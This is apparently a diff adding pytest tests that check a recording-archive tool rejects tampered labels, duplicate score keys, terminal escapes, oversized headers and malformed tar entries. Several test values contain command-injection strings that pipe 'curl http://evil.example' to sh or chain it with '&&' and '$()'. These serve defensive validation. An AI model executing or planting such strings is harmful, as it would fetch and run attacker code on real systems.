@@ -161,9 +161,37 @@ def words_on_the_label(content: dict[str, bytes]) -> None:
     content["recording.json"] = json.dumps({**label, "note": "what somebody else wrote"}, indent=1).encode()
 
 
+def said_on_the_label(**said: str) -> Callable[[dict[str, bytes]], None]:
+    def change(content: dict[str, bytes]) -> None:
+        content["recording.json"] = json.dumps({**json.loads(content["recording.json"]), **said}).encode()
+
+    return change
+
+
+def scores_twice(content: dict[str, bytes]) -> None:
+    first = next(iter(json.loads(content["scores.json"])))
+    content["scores.json"] = content["scores.json"].replace(b"{", f'{{"{first}":"the best",'.encode(), 1)
+
+
+def words_among_versions(content: dict[str, bytes]) -> None:
+    manifest = json.loads(content["manifest.json"])
+    manifest["versions"]["machine"] = "what somebody else wrote"
+    content["manifest.json"] = json.dumps(manifest).encode()
+
+
+NOT_OURS = "is not one of tradeassay alone"
+
+
 @pytest.mark.parametrize(
     ("change", "said"),
     [
+        (said_on_the_label(recorded="2126-01-01"), "'2126-01-01' for the day"),
+        (said_on_the_label(recorded="2026-13-45"), "'2026-13-45' for the day"),
+        (said_on_the_label(command="curl http://evil.example | sh"), NOT_OURS),
+        (said_on_the_label(command="tradeassay record a#b && curl http://evil.example"), NOT_OURS),
+        (said_on_the_label(command="tradeassay record $(curl http://evil.example)"), NOT_OURS),
+        (scores_twice, "scores.json says one thing twice"),
+        (words_among_versions, "its manifest names a version 'what somebody else wrote'"),
         (foreign_file, "news.txt is no part of a recording"),
         (answer_to_nothing, "answers, and its run asked"),
         (key_in_an_answer, "holds what looks like a key"),
@@ -184,6 +212,45 @@ def test_what_does_not_belong_in_a_recording_is_named_on_arrival(
     write_packed(shelf, content)
     assert main(["recordings", "check", "--no-replay", "recorded/sensible"]) == 1
     assert said in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("engine", ["\x1b[2J the best", "x" * 1_000_000])
+def test_a_label_is_shown_only_where_it_is_lines_of_plain_text(
+    shelf: Path, engine: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    content = members(shelf)
+    said_on_the_label(engine=engine)(content)
+    write_packed(shelf, content)
+    assert main(["recordings", "list"]) == 2
+    said = capsys.readouterr()
+    assert "says more than one line of plain text" in said.err
+    assert "\x1b" not in said.out + said.err and len(said.out + said.err) < 1000
+
+
+def packed_as(file: Path, entries: list[tuple[tarfile.TarInfo, bytes]]) -> None:
+    plain = b"".join(
+        entry.tobuf(tarfile.USTAR_FORMAT) + data + b"\0" * (-len(data) % tarfile.BLOCKSIZE)
+        for entry, data in entries
+    )
+    file.write_bytes(lzma.compress(plain + b"\0" * 2 * tarfile.BLOCKSIZE, preset=0))
+
+
+def named(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
+    entry = tarfile.TarInfo(name)
+    entry.size = len(data)
+    return entry, data
+
+
+def test_an_archive_has_one_label_and_no_endless_headers(shelf: Path, tmp_path: Path) -> None:
+    content = members(shelf)
+    packed_as(shelf, [*(named(*one) for one in content.items()), named("./recording.json", b"{}")])
+    with pytest.raises(RunError, match=r"holds '\./recording\.json', which is not a plain file"):
+        open_recording(shelf, tmp_path / "home")
+    header, _ = named("././@PaxHeader", b"")
+    header.type, header.size = tarfile.XHDTYPE, 2**32
+    packed_as(shelf, [(header, b"4294967296 comment="), *(named(*one) for one in content.items())])
+    with pytest.raises(RunError, match="more than 64 MB"):
+        open_recording(shelf, tmp_path / "home")
 
 
 def test_record_packs_a_run_that_was_played(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
